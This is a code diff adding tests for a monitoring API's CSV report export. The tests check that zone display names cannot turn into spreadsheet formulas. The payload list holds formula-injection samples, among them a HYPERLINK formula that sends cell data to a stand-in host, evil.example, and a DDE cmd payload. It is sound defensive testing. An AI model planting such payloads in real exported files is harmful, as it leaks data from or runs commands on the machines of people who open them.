@@ -23,7 +23,8 @@ from api.app import create_app
 from api.domain import Reading, Role, Snapshot, ZoneKey
 from api.engine import Alert
 from api.readings import MinuteRow
-from api.report import CSV_COLUMNS
+from api.report import CSV_COLUMNS, Dialect, report_csv
+from api.schemas import Report, ReportRow
 from api.settings import Settings
 from api.storage import Storage
 from edge.cli import main as wartezone
@@ -198,6 +199,86 @@ def test_csv_reads_back_as_the_json_in_both_dialects(client: TestClient, dialect
             assert number(row[column], dialect) == expected[column], (column, row, expected)
     decimals = [r["minutes_at_raise_level"] for r in rows if r["minutes_at_raise_level"] not in ("", "0")]
     assert decimals == (["2,5", "2,5"] if dialect == "de" else ["2.5", "2.5"])  # 08:00 and 08:15
+
+
+# (display name from the edge, its CSV cell): OWASP's rule for cells a spreadsheet would run.
+PAYLOADS = [
+    ("", "waiting"),  # no name: the id
+    ("Wartebereich Süd", "Wartebereich Süd"),
+    (
+        '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
+        '\'=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
+    ),
+    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+    ("+1+1", "'+1+1"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(1,2)", "'@SUM(1,2)"),
+    ('Halle; "Süd", =1', 'Halle; "Süd", =1'),  # a formula sign inside a text cell is text already
+]
+
+
+class NamedEdge:
+    """The edge of the unit, reporting one zone by the given display name."""
+
+    def __init__(self, name: str) -> None:
+        self.name = name
+
+    async def read(self) -> Snapshot:
+        return Snapshot(H + 10 * HOUR, {}, reported={WAITING: self.name or WAITING.zone}, complete=True)
+
+    async def aclose(self) -> None:
+        pass
+
+
+@pytest.mark.parametrize("dialect", ["excel", "de"])
+@pytest.mark.parametrize(("name", "cell"), PAYLOADS, ids=[f"payload{i}" for i in range(len(PAYLOADS))])
+def test_a_display_name_never_becomes_a_formula(
+    settings: Settings, dialect: str, name: str, cell: str
+) -> None:
+    with TestClient(create_app(settings, clock=FakeClock(H + 10 * HOUR), source=NamedEdge(name))) as client:
+        wait_for(lambda: client.get("/api/v1/zones", headers=DESK_HEADERS).json()["zones"], 10, "a read")
+        response = client.get(
+            "/api/v1/report", params={**RANGE, "format": "csv", "dialect": dialect}, headers=LEAD_HEADERS
+        )
+        as_json = client.get("/api/v1/report", params=RANGE, headers=LEAD_HEADERS).json()
+    assert [r["name"] for r in parse_csv(response.text, dialect) if r["zone"] == "waiting"] == [cell, cell]
+    assert {r["name"] for r in as_json["rows"] if r["zone"] == "waiting"} == {name or "waiting"}  # JSON as is
+
+
+def one_row_csv(name: str, dialect: Dialect, **numbers: float | None) -> dict[str, str]:
+    tz = ZoneInfo("Europe/Berlin")
+    start, end = datetime.fromtimestamp(H, tz), datetime.fromtimestamp(H + HOUR, tz)
+    figures: dict[str, float | None] = dict.fromkeys(
+        ("occupancy_mean", "occupancy_peak", "entries", "exits", "little_wait_s", "minutes_at_raise_level")
+    )
+    row = ReportRow(
+        site="north", camera="entrance", zone="waiting", name=name, start=start, end=end,
+        **(figures | numbers), alerts_fired=0, alerts_acknowledged=0,
+    )  # fmt: skip
+    report = Report(
+        site="north", start=start, end=end, step="1h", step_s=HOUR, time_zone=str(tz), source="readings",
+        rows=[row],
+    )  # fmt: skip
+    [cells] = parse_csv(report_csv(report, dialect), dialect)
+    return cells
+
+
+@pytest.mark.parametrize("dialect", ["excel", "de"])
+@pytest.mark.parametrize(
+    ("name", "cell"),
+    [("", ""), ("-", "'-"), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("a\n=1+1", "a\n=1+1")],
+    ids=["empty", "minus", "tab", "carriage return", "line break"],
+)
+def test_text_cells_are_neutralised(dialect: Dialect, name: str, cell: str) -> None:
+    assert one_row_csv(name, dialect)["name"] == cell
+
+
+@pytest.mark.parametrize(
+    ("dialect", "cells"), [("excel", ("-1.5", "-2", "0", "")), ("de", ("-1,5", "-2", "0", ""))]
+)
+def test_negative_numbers_stay_numbers(dialect: Dialect, cells: tuple[str, ...]) -> None:
+    row = one_row_csv("x", dialect, occupancy_mean=-1.5, entries=-2.0, exits=0.0)
+    assert (row["occupancy_mean"], row["entries"], row["exits"], row["occupancy_peak"]) == cells
 
 
 def count_readings(settings: Settings) -> int:
